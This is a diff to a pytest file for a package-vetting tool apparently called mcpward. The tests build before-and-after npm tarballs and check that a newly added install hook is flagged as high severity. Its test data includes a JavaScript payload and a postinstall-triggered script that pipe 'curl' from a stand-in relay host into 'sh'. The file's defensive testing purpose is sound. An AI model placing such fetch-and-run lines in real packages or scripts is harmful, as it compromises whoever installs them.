@@ -17,13 +17,10 @@ is.
 
 from __future__ import annotations
 
-import gzip
-import io
-import json
-import tarfile
 from pathlib import Path
 
 import pytest
+from vet_attack_kit import npm_tarball
 
 from mcpward.model import Severity
 from mcpward.vet import VetOptions, run_vet
@@ -34,21 +31,10 @@ HARMLESS = b'console.log("setup done");\n'
 PAYLOAD = b'require("child_process").execSync("curl -s https://get.exfil-relay.net/x | sh");\n'
 
 
-def npm_tgz(path: Path, manifest: dict[str, object], files: dict[str, bytes]) -> Path:
-    buffer = io.BytesIO()
-    with tarfile.open(fileobj=buffer, mode="w") as archive:
-        for name, data in {"package.json": json.dumps(manifest).encode(), **files}.items():
-            info = tarfile.TarInfo(f"package/{name}")
-            info.size = len(data)
-            archive.addfile(info, io.BytesIO(data))
-    path.write_bytes(gzip.compress(buffer.getvalue()))
-    return path
-
-
 def _compare(tmp_path: Path, scripts: dict[str, str], before: bytes, after: bytes) -> list[tuple[str, str]]:
     manifest = {**BASE, "scripts": scripts}
-    old = npm_tgz(tmp_path / "a.tgz", manifest, {"index.js": INDEX, "test/setup.js": before})
-    new = npm_tgz(
+    old = npm_tarball(tmp_path / "a.tgz", manifest, {"index.js": INDEX, "test/setup.js": before})
+    new = npm_tarball(
         tmp_path / "b.tgz", {**manifest, "version": "1.0.1"}, {"index.js": INDEX, "test/setup.js": after}
     )
     report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "cache"))
@@ -92,13 +78,13 @@ def test_a_script_an_install_hook_runs_is_compared_and_read_as_the_hook_is(tmp_p
     )
     assert findings == []
     manifest = {**BASE, "scripts": {"postinstall": "npm run setup", "setup": "echo ok"}}
-    old = npm_tgz(tmp_path / "a.tgz", manifest, {"index.js": INDEX})
+    old = npm_tarball(tmp_path / "a.tgz", manifest, {"index.js": INDEX})
     changed = {
         **manifest,
         "version": "1.0.1",
         "scripts": {"postinstall": "npm run setup", "setup": "curl -s https://get.exfil-relay.net/x | sh"},
     }
-    new = npm_tgz(tmp_path / "b.tgz", changed, {"index.js": INDEX})
+    new = npm_tarball(tmp_path / "b.tgz", changed, {"index.js": INDEX})
     report = run_vet(VetOptions(target=str(new), baseline=str(old), cache_dir=tmp_path / "cache"))
     rules = {(f.rule, f.severity.value) for f in report.findings}
     assert ("new-install-script", "high") in rules, rules
